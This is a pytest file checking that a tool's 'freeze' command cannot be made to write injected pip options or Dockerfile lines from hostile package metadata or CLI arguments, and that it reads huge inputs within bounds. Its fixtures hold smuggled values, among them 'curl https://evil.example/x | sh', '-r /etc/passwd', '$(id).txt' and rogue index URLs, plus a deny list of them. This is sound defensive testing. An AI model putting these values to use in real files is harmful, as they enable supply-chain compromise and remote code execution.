"""``freeze`` reading installed distributions whose metadata is hostile: what it writes must hold
no active pip line the metadata chose, and reading it stays bounded in time and memory.

Each environment is a folder of hand-made ``.dist-info`` directories, read by
``read_environment(path=[folder])`` in a bounded child; the requirements file it writes is then
read by pip's own requirements-file parser: every line pip sees must be a plain requirement of a
name we expect (no ``--extra-index-url``, ``--trusted-host``, ``-r``, nothing from a newline that
escaped a comment).
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.hostile.bounded import run_bounded, run_cli_bounded

EVIL = ("--extra-index-url", "--trusted-host", "-r /etc/passwd", "evil.example", "--index-url")
COMMIT = "a" * 40

FREEZE_IN_CHILD = """
import json, sys
from pathlib import Path
from polymagic.app.interpreter import read_environment
from polymagic.render.freeze import FreezeOptions, freeze
env = read_environment(path=[sys.argv[1] if len(sys.argv) > 1 else {site!r}],
                       user_namespace={{}}, modules={{}}, context=Path({site!r}))
out = {{}}
for imported in (False, True):
    result = freeze(env, FreezeOptions(imported_only=imported))
    out[str(imported)] = {{"requirements": result.requirements, "operation": result.operation,
                          "warnings": list(result.warnings)}}
print(json.dumps(out))
"""


def _dist(site: Path, folder: str, metadata: str, **files: str | bytes) -> None:
    info = site / folder
    info.mkdir(parents=True)
    (info / "METADATA").write_text(metadata)
    for name, content in files.items():
        target = info / name.replace("__", ".")
        if isinstance(content, bytes):
            target.write_bytes(content)
        else:
            target.write_text(content)


def _pip_lines(path: Path) -> list[tuple[str | None, list[str]]]:
    """Each line as pip reads it: its requirement (or None) and the options it set."""
    from pip._internal.network.session import PipSession
    from pip._internal.req.req_file import RequirementsFileParser, get_line_parser

    def parse(file: Path) -> list[tuple[str | None, dict[str, object]]]:
        parser = RequirementsFileParser(PipSession(), get_line_parser(None))
        return [
            (line.args or None, vars(line.opts)) for line in parser._parse_file(str(file), False)
        ]

    # What a plain requirement line sets (pip's defaults): anything beyond is an option line's.
    plain = path.with_name("plain.txt")
    plain.write_text("plain==1\n")
    [(_, defaults)] = parse(plain)
    return [
        (requirement, sorted(key for key, value in options.items() if value != defaults.get(key)))
        for requirement, options in parse(path)
    ]


def _freeze_site(site: Path, tmp_path: Path) -> dict[str, dict[str, object]]:
    result = run_bounded(FREEZE_IN_CHILD.format(site=str(site)))
    assert result.returncode == 0, result.explain()
    assert not result.timed_out
    written: dict[str, dict[str, object]] = json.loads(result.stdout)
    return written


def _assert_safe(written: dict[str, dict[str, object]], tmp_path: Path, allowed: set[str]) -> None:
    for mode, out in written.items():
        text = str(out["requirements"])
        path = tmp_path / f"requirements-{mode}.txt"
        path.write_text(text, encoding="utf-8")
        for requirement, options in _pip_lines(path):
            assert requirement is not None, (mode, options, text)
            assert options == [], (mode, requirement, options)
            assert requirement.split("==")[0].split(" @ ")[0] in allowed, (mode, requirement)
            assert not any(bad in requirement for bad in EVIL), requirement
        for line in text.split("\n"):
            assert (
                line == "" or line.startswith("#") or line.split("==")[0].split(" @ ")[0] in allowed
            )


def test_metadata_cannot_put_an_active_line_into_the_requirements(tmp_path: Path) -> None:
    site = tmp_path / "site"
    # Folded headers: the name and version themselves carry a newline and a pip option.
    _dist(
        site,
        "folded-1.0.dist-info",
        "Name: folded\n --extra-index-url https://evil.example/simple\nVersion: 1.0\n",
    )
    _dist(site, "version-1.0.dist-info", "Name: version\nVersion: 1.0\n -r /etc/passwd\n")
    _dist(
        site,
        "crversion-1.0.dist-info",
        "Name: crversion\nVersion: 1.0\r--trusted-host evil.example\n",
    )
    _dist(
        site, "sep-1.0.dist-info", "Name: sep\u2028--index-url https://evil.example\nVersion: 1.0\n"
    )
    _dist(site, "good-2.0.dist-info", "Name: good\nVersion: 2.0\n")
    _dist(
        site,
        "vcsurl-1.0.dist-info",
        "Name: vcsurl\nVersion: 1.0\n",
        direct_url__json=json.dumps(
            {
                "url": "https://example.com/r.git\n--extra-index-url https://evil.example/simple",
                "vcs_info": {"vcs": "git", "commit_id": COMMIT},
            }
        ),
    )
    _dist(
        site,
        "vcscommit-1.0.dist-info",
        "Name: vcscommit\nVersion: 1.0\n",
        direct_url__json=json.dumps(
            {
                "url": "https://example.com/r.git",
                "vcs_info": {"vcs": "git", "commit_id": "main\n--trusted-host evil.example"},
            }
        ),
    )
    _dist(
        site,
        "vcssub-1.0.dist-info",
        "Name: vcssub\nVersion: 1.0\n",
        direct_url__json=json.dumps(
            {
                "url": "https://example.com/r.git",
                "subdirectory": "x\n-r /etc/passwd",
                "vcs_info": {"vcs": "git", "commit_id": COMMIT},
            }
        ),
    )
    _dist(
        site,
        "vcsgood-1.0.dist-info",
        "Name: vcsgood\nVersion: 1.0\n",
        direct_url__json=json.dumps(
            {"url": "https://example.com/r.git", "vcs_info": {"vcs": "git", "commit_id": COMMIT}}
        ),
    )
    _dist(
        site,
        "editable-1.0.dist-info",
        "Name: editable\nVersion: 1.0\n",
        direct_url__json=json.dumps(
            {
                "url": "file:///home/me/x\n--extra-index-url https://evil.example/simple\\",
                "dir_info": {"editable": True},
            }
        ),
    )
    _dist(
        site,
        "archive-1.0.dist-info",
        "Name: archive\nVersion: 1.0\n",
        direct_url__json=json.dumps(
            {"url": "https://files.example.com/a.whl#\n-r /etc/passwd", "archive_info": {}}
        ),
    )
    _dist(
        site, "bad\n-r %2Fetc%2Fpasswd-0.dist-info", "Version: 0\n"
    )  # no name: listed by its location
    written = _freeze_site(site, tmp_path)
    # crversion: the metadata parser ends the header at the carriage return; what follows is no
    # header at all, so its version is a plain 1.0.
    _assert_safe(written, tmp_path, {"good", "vcsgood", "crversion"})
    default = written["False"]
    requirements = str(default["requirements"])
    assert "good==2.0" in requirements.splitlines()
    assert f"vcsgood @ git+https://example.com/r.git@{COMMIT}" in requirements.splitlines()
    # Every refused one is named in the warnings, escaped.
    warnings = "\n".join(map(str, default["warnings"]))  # type: ignore[call-overload]
    for name in ("vcsurl", "vcscommit", "vcssub", "editable", "archive", "version"):
        assert name in warnings, (name, warnings)
    assert "folded\\x0a--extra-index-url" in warnings
    assert "\\u2028" in warnings


def test_huge_and_deep_metadata_is_read_within_the_bound(tmp_path: Path) -> None:
    site = tmp_path / "site"
    _dist(site, "deep-1.0.dist-info", "Name: deep\nVersion: 1.0\n",
          direct_url__json="[" * 200_000 + "]" * 200_000)  # fmt: skip
    _dist(site, "bigrecord-1.0.dist-info", "Name: bigrecord\nVersion: 1.0\n",
          RECORD="x/" * 100 + "a.py,,\n" * 40_000 + "y" * 8_000_000)  # fmt: skip
    pth_lines = "\n".join(f"/nowhere/{i}" for i in range(200_000))
    _dist(site, "pth-1.0.dist-info", "Name: pth\nVersion: 1.0\n", RECORD="pth.pth,,\n")
    (site / "pth.pth").write_text(pth_lines)
    _dist(site, "finder-1.0.dist-info", "Name: finder\nVersion: 1.0\n",
          RECORD="__editable___finder_1_0_finder.py,,\n")  # fmt: skip
    (site / "__editable___finder_1_0_finder.py").write_text(
        "MAPPING = {"
        + ",".join(f"'m{i}': '/nowhere/{i}'" for i in range(100_000))
        + "}\n"
        + "X = "
        + "(" * 100_000
        + ")" * 100_000
        + "\n"
    )
    written = _freeze_site(site, tmp_path)
    _assert_safe(written, tmp_path, {"deep", "bigrecord", "pth", "finder"})
    assert "deep==1.0: its metadata cannot be used (its direct_url.json is not JSON)" in "\n".join(
        map(str, written["False"]["warnings"])  # type: ignore[call-overload]
    )


@pytest.mark.parametrize(
    "name",
    ["r.txt; curl https://evil.example/x | sh", "r.txt\nRUN curl evil.example", "../r.txt",
     "/tmp/r.txt", "-r", "r .txt", "$(id).txt", "dir/../../r.txt"],
    ids=["semicolon", "newline", "parent", "absolute", "option", "space", "substitution", "dotdot"],
)  # fmt: skip
def test_the_requirements_name_is_a_plain_relative_file(name: str, tmp_path: Path) -> None:
    result = run_cli_bounded(["freeze", "--context", str(tmp_path), "--requirements", name])
    assert result.returncode != 0, result.explain()
    assert "--requirements" in result.stderr, result.explain()
    assert "evil.example" not in result.stdout
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize(
    ("option", "value"),
    [("--base", "python:3.11-slim\nRUN curl evil.example"), ("--base", "python:3.11 AS x"),
     ("--destination", "reg.example.com/a\nb"), ("--connection", "reg\n--x")],
    ids=["base-newline", "base-space", "destination-newline", "connection-newline"],
)  # fmt: skip
def test_image_options_cannot_add_dockerfile_lines(option: str, value: str, tmp_path: Path) -> None:
    result = run_cli_bounded(["freeze", "--context", str(tmp_path), option, value])
    assert result.returncode != 0, result.explain()
    assert option in result.stderr, result.explain()
    assert "RUN curl" not in result.stdout
    assert list(tmp_path.iterdir()) == []


HISTORY_IN_CHILD = """
import json, os, sys
from pathlib import Path
from polymagic.app.freeze_asked import asked_for
folder = Path(sys.argv[1] if len(sys.argv) > 1 else {folder!r})
long_line = "!pip install " + "a " * 1_000_000
cells = [
    "%%capture\\n" * 200_000 + "%pip install deep",
    "get_ipython().run_cell_magic('capture', '', " + repr("%%capture\\n" * 100_000) + ")",
    "x = " + "(" * 100_000 + ")" * 100_000,
    long_line,
    "!pip install a\\n" * 100_000,
    "%pip install -r big.txt -r loop.txt -r /dev/zero -r /dev/stdin -r fifo -r ok.txt",
    "".join(f"!pip install many{{i}}\\n" for i in range(50_000)),
    "!pip install '" + "x" * 60_000,
] + ["%pip install -r ok.txt"] * 1000
names = asked_for(cells, folder)
print(json.dumps(sorted(name for name in names if not name.startswith("many"))))
print(sum(name.startswith("many") for name in names))
"""


def test_a_hostile_history_is_read_within_the_bound(tmp_path: Path) -> None:
    """Deeply nested cell magics and expressions, huge and many command lines, requirements
    files that are huge, endless, looping or never written: bounded, and what can be read is."""
    import os

    (tmp_path / "big.txt").write_text("big\n" * 1_000_000)
    (tmp_path / "loop.txt").write_text("-r loop.txt\nlooped\n")
    (tmp_path / "ok.txt").write_text("fine\n")
    os.mkfifo(tmp_path / "fifo")
    result = run_bounded(HISTORY_IN_CHILD.format(folder=str(tmp_path)), cwd=tmp_path)
    assert result.returncode == 0, result.explain()
    assert not result.timed_out
    names, many = result.stdout.splitlines()
    assert json.loads(names) == ["a", "fine", "looped"]
    assert 0 < int(many) < 50_000  # distinct command lines: read up to a bound


HEADER_IN_CHILD = """
import os, sys
from pathlib import Path
from polymagic.app.freeze_command import kernel_imports
context = Path({context!r})
run = "RUN pip install --no-cache-dir -r {{}}\\n"
for name in ("many.txt", "long.txt", "fifo.txt", "big.txt"):
    print(name, sorted(kernel_imports(run.format(name), context)))
"""


def test_the_imported_line_is_read_within_the_bound(tmp_path: Path) -> None:
    """A requirements file of a million lines all starting with a named distribution, a header
    of 100 000 names, a FIFO, a file over the size bound: read bounded, and only the first
    counts."""
    import os

    prefix = "# polymagic-imported-by-kernel: "
    (tmp_path / "many.txt").write_text(
        f"# x\n{prefix}numpy\n" + "numpy>=1 ; python_version > '3'\n" * 100_000
    )
    (tmp_path / "long.txt").write_text(
        f"# x\n{prefix}" + " ".join(f"n{i}" for i in range(100_000)) + "\nn1==1\n"
    )
    os.mkfifo(tmp_path / "fifo.txt")
    (tmp_path / "big.txt").write_text(f"# x\n{prefix}numpy\nnumpy==1\n" + "#" * (5 << 20))
    result = run_bounded(HEADER_IN_CHILD.format(context=str(tmp_path)), cwd=tmp_path)
    assert result.returncode == 0, result.explain()
    assert not result.timed_out
    assert result.stdout.splitlines() == [
        "many.txt ['numpy']", "long.txt []", "fifo.txt []", "big.txt []",
    ]  # fmt: skip
